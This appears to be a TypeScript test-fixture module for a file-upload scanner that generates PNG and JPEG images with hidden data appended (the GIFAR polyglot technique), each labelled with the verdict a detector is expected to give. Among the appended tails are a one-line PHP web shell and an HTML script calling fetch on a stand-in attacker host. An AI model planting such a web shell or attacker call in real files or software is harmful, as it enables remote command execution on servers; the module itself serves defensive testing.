import { joined, utf8 } from '../../bytes/text-bytes.js';
import type { UnsafeReason } from '#domain/document/inspection';
import type { HostileKind } from '../../hostile-kind.js';
import { noise } from '../../sender.js';
import { validFile } from '../../twins/harmless-twins.js';
import { packed } from '../../twins/office.js';

type Tail = (number: string, seed: number) => Uint8Array;

const TAILS: readonly (readonly [Tail, readonly UnsafeReason[]])[] = [
  [(number) => packed(new Map([['evil.exe', `MZ ${number}`]])), ['polyglot']],
  [(number) => validFile('docx', number), ['polyglot']],
  [(number) => validFile('xlsx', number), ['polyglot']],
  [(number) => validFile('pdf', number), ['polyglot']],
  [() => utf8('<html><script>fetch("http://attacker.example/")</script></html>'), ['polyglot']],
  [() => utf8('<?php system($_GET["a"]); ?>'), ['polyglot']],
  [(_, seed) => joined('MZ', noise(seed, 1_000)), ['polyglot']],
  [(_, seed) => noise(seed, 50_000), ['polyglot', 'damaged']],
];

/** A picture ends where its format says; the rest is for another reader (GIFAR, 2008). */
export const DATA_AFTER_PICTURE: HostileKind = {
  kind: 'data-after-picture',
  what: 'A zip, docx, xlsx, PDF, page, script, program or noise stands behind the end of a PNG or JPEG.',
  source: 'Rios and McFeters, "GIFAR", Black Hat 2008; Albertini, PoC||GTFO 0x07, 2015; CWE-434',
  *files(sender) {
    for (const kind of ['png', 'jpg'] as const) {
      for (const [tail, expected] of TAILS) {
        const { number, name, seed } = sender.letter(kind);
        yield { name, expected, content: () => joined(validFile(kind, number), tail(number, seed)) };
      }
    }
  },
};
